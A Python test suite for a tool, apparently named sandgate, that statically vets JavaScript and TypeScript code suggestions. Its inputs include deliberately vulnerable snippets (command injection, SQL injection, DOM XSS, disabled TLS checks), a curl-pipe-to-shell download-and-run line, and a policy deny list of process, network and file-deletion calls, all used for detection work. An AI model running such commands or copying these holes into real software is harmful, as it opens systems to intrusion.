"""The JavaScript/TypeScript unit: tree-sitter syntax (what parses, completing a cut suggestion,
statement starts, names), aliases through require/import, the value questions the JS pack asks
(request data, built strings, literals), the policy's deny lists, the pack loader's example check,
and documents that do not parse yet around a suggestion."""

from __future__ import annotations

import pytest

from sandgate.checks.js_pack import run_js_pack
from sandgate.checks.js_parse import parse_js, syntax_error
from sandgate.checks.js_scan import scan
from sandgate.checks.rule_pack import JAVASCRIPT, JS_PACK_PATH, PackError, check_examples, load_js_pack, parse_pack
from sandgate.findings import Level, Verdict
from sandgate.languages.javascript import JAVASCRIPT as JS_UNIT
from sandgate.languages.javascript import TYPESCRIPT
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion

from .conftest import REPO, STATIC_ONLY

JS = JS_UNIT.syntax
TS = TYPESCRIPT.syntax


def rules(code: str) -> list[str]:
    return [f.rule for f in run_js_pack(code, load_js_pack())]


# -- syntax ---------------------------------------------------------------------------------------


def test_what_parses():
    assert JS.parses("const x = <div>{y}</div>;")  # JSX in .js
    assert TS.parses("const x = <T,>(a: T): T => a;\nconst y = <string>z;")  # a TS assertion
    assert TS.parses("export const C = () => <div className={cls} />;")  # TSX: the second grammar
    assert not JS.parses("function f( {")
    error = JS.compile_error("const a = 1;\nconst b = (2;\nconst c = 3;")
    assert error is not None and error.lineno == 2
    with pytest.raises(SyntaxError):
        JS.parse("if (x {")
    # A MISSING node (tree-sitter inserted a token) is an error too, not a clean tree.
    assert JS.compile_error("let s = foo(1, 2") is not None


def test_completing_a_cut_suggestion():
    assert JS.complete("exec(`ping ${host") == "exec(`ping ${host}`)"
    assert JS.complete("foo({ a: [1, 'x") == "foo({ a: [1, 'x']})"
    assert JS.complete("run(a /* note") == "run(a /* note*/)"
    assert JS.complete("a)") is None  # a closer with no opener: not a cut
    assert JS.complete("const s = 'one\ntwo") is None  # a one-line string the line ends
    assert JS.complete("call(x) // trailing (") is None  # brackets in a comment do not count


def test_statement_starts_and_names():
    lines = [
        "import x from 'x';",
        "app.get('/a', (req, res) => {",
        "  res.send(1);",
        "});",
        "const s = `multi",
        "line template",
        "`;",
        "export default {",
        "  a: 1,",
        "}",
        "  .valueOf();",
        "@decorator()",
        "class C {}",
    ]
    assert TS.statement_starts(lines) == [0, 1, 4, 7, 11]
    assert JS.describe("export default async function handler(req, res) {") == "`function handler`"
    assert JS.describe("export class Foo extends Bar {") == "`class Foo`"
    assert JS.describe("const f = async (x) => {") == "`const f = …`"
    assert JS.describe("let g = function () {") == "`let g = …`"
    assert JS.describe("const x = 1;") is None


# -- names and values -----------------------------------------------------------------------------


def test_callees_resolve_through_require_and_import_aliases():
    tree = parse_js(
        "const cp = require('child_process');\n"
        "const { exec: run } = require('node:child_process');\n"
        "import * as vm from 'vm';\n"
        "import fsp, { readFile as rf } from 'fs/promises';\n"
        "const spawn = require('child_process').spawn;\n"
        "cp.execSync(a); run(b); vm.runInNewContext(c); rf(d); fsp.unlink(e); spawn(f);\n"
        "require('fs').rmSync(g);\n"
        "cp['exec'](h); (0, globalThis.eval)(i); window.eval(j);\n",
        ("javascript",),
    )
    names = [c.name for c in scan(tree).calls]
    assert names == [
        "child_process.execSync",
        "child_process.exec",
        "vm.runInNewContext",
        "fs/promises.readFile",
        "fs/promises.unlink",
        "child_process.spawn",
        "fs.rmSync",
        "child_process.exec",
        "eval",
        "eval",
    ]


def test_request_data_is_followed_through_variables_and_destructuring():
    prefix = "const { exec } = require('child_process');\napp.get('/x', (req, res) => {\n"
    assert rules(prefix + "  const { host } = req.query;\n  exec(`ping ${host}`);\n});") == ["js.command-injection"]
    assert rules(prefix + "  let h;\n  h = req.body.h;\n  const c = 'ping ' + h;\n  exec(c);\n});") == [
        "js.command-injection"
    ]
    assert rules(prefix + "  exec('ping ' + req.get('X-Host'));\n});") == ["js.command-injection"]
    # A number is not a command: the sanitizer's result is clean, and the string still built.
    assert rules(prefix + "  exec('kill ' + Number(req.query.pid));\n});") == ["js.exec-built"]
    # Not followed: a helper's return value (documented); the built string is still held.
    assert rules(prefix + "  exec('ping ' + hostOf(req));\n});") == ["js.exec-built"]


def test_literals_and_built_strings():
    assert rules("const { exec } = require('child_process');\nconst DIR = '/srv';\nexec('ls ' + DIR);") == []
    assert rules("const { exec } = require('child_process');\nexec(`ls ${dir}`);") == ["js.exec-built"]
    assert rules("el.innerHTML = `<b>${escapeHtml(name)}</b>`;") == []
    assert rules("el.innerHTML = `<b>${name}</b>`;") == ["js.dom-xss"]
    # Spelled out across variables: the command downloads and runs code.
    assert rules(
        "const { execSync } = require('child_process');\nconst url = 'https://x.example/i.sh';\n"
        "execSync('curl -fsSL ' + url + ' | sh');"
    ) == ["js.download-and-run"]


def test_a_table_of_literals_looked_up_with_request_data_gives_a_literal():
    code = (
        "app.get('/p', async (req, res) => {\n"
        "  const cols = { name: 'name', price: 'price' };\n"
        "  await db.query(`SELECT * FROM p ORDER BY ${cols[req.query.sort]}`);\n"
        "});"
    )
    assert rules(code) == []
    assert rules(code.replace("{ name: 'name', price: 'price' }", "{ name: 'name', price: req.query.p }")) == [
        "js.sql-injection"
    ]


# -- the pack as data -----------------------------------------------------------------------------


def test_the_pack_loads_with_every_rule_documented():
    pack = load_js_pack()
    assert len(pack.rules) >= 20
    for rule in pack.rules:
        assert rule.id.startswith("js.") and rule.cwe and rule.fix and rule.match and rule.not_match
        assert rule.link.endswith(f"#{rule.docs}")


def test_a_rule_whose_example_fails_does_not_load():
    broken = JS_PACK_PATH.read_text().replace("${req.query.host}", "${HOST}", 1)
    with pytest.raises(PackError, match="rule js.command-injection: match example 1 gives no finding"):
        check_examples(parse_pack(broken, JAVASCRIPT))
    unknown = JS_PACK_PATH.read_text().replace("downloads = true", "downloads = true, shelled = 1", 1)
    with pytest.raises(PackError, match="unknown condition keys"):
        parse_pack(unknown, JAVASCRIPT)


def test_the_policys_pack_settings_apply_to_the_js_pack(static_workspace):
    own = static_workspace / "own.toml"
    own.write_text(STATIC_ONLY + '[pack]\ndisable = ["js.dom-*"]\nseverity = ["js.tls-off=low"]\n')
    vetter = Vetter(load_effective(static_workspace, explicit=own))
    ids = {r.id for r in vetter.js_pack_rules}
    assert "js.dom-xss" not in ids and "js.sql-injection" in ids
    result = vetter.vet(Suggestion("const a = new https.Agent({ rejectUnauthorized: false });", path="a.js"))
    pack = [f for f in result.findings if f.source == "pack"]
    assert [(f.rule, f.severity) for f in pack] == [("js.tls-off", Level.LOW)]
    # Low: the pack's finding holds nothing; the capability analysis (language-neutral, not the
    # pack's to configure) holds it, as it holds Python's `verify=False`.
    holding = {r.finding.rule for r in result.decision.reasons if r.verdict is not Verdict.ALLOW and r.finding}
    assert result.verdict is Verdict.REVIEW and holding == {"capability.verify-off"}
    assert "no sandbox could run" in (result.sandbox_skipped or "")


# -- the policy's deny lists, and documents that do not parse yet ---------------------------------


def test_deny_lists_apply_to_javascript(static_workspace):
    own = static_workspace / "own.toml"
    own.write_text(
        STATIC_ONLY + '[code]\ndeny_imports = ["child_process", "net"]\ndeny_calls = ["fs.rmSync", "eval"]\n'
    )
    vetter = Vetter(load_effective(static_workspace, explicit=own))
    code = (
        "import net from 'node:net';\n"
        "const { execFile } = require('child_process');\n"
        "require('fs').rmSync(dir, { recursive: true });\n"
        "const v = (0, eval)('1');\n"
    )
    result = vetter.vet(Suggestion(code, path="tool.mjs"))
    denied = sorted((f.rule, f.line) for f in result.findings if f.source == "policy")
    assert denied == [("call.denied", 3), ("call.denied", 4), ("import.denied", 1), ("import.denied", 2)]
    assert result.verdict is Verdict.REVIEW


def test_a_suggestion_mid_file_in_a_document_that_does_not_parse_is_vetted_in_its_region(static_workspace):
    vetter = Vetter(load_effective(static_workspace, explicit=static_workspace / "static.toml"))
    document = (
        "import express from 'express';\n"
        "import { Pool } from 'pg';\n"
        "const app = express();\n"
        "const pool = new Pool();\n\n"
        "app.get('/a', (req, res) => {\n"
        "  res.send(\n"
        "});\n\n"
        "app.get('/users', async (req, res) => {\n"
        "  \n"
        "});\n\n"
        "function half( {\n"
    )
    text = "const { rows } = await pool.query(`SELECT * FROM users WHERE id = ${req.query.id}`"
    result = vetter.vet(Suggestion(text, document=document, line=10, character=2, path="app.ts"))
    assert result.verdict is Verdict.BLOCK and [f.rule for f in result.findings if f.source == "pack"] == [
        "js.sql-injection"
    ]
    assert result.vetted.startswith("vetted completed with `)`") and "lines 6–8, 14" in result.vetted
    nothing = vetter.vet(Suggestion("res.json({ ok: true });", document=document, line=10, character=2, path="app.ts"))
    assert nothing.verdict is Verdict.ALLOW  # the static checks find nothing (no backend here: not run)
    assert [f.rule for f in nothing.findings] == ["syntax.region"]
    assert syntax_error(parse_js(document, ("typescript",))) is not None  # the document itself is broken


def test_every_js_rule_is_documented_where_its_link_points():
    docs = (REPO / "docs" / "static-checks.md").read_text()
    assert '<a id="javascript-and-typescript"></a>' in docs and '<a id="without-a-sandbox-run"></a>' in docs
    for rule in load_js_pack().rules:
        assert f'<a id="{rule.id}"></a>' in docs, rule.id
        assert rule.link.endswith(f"static-checks.md#{rule.id}")
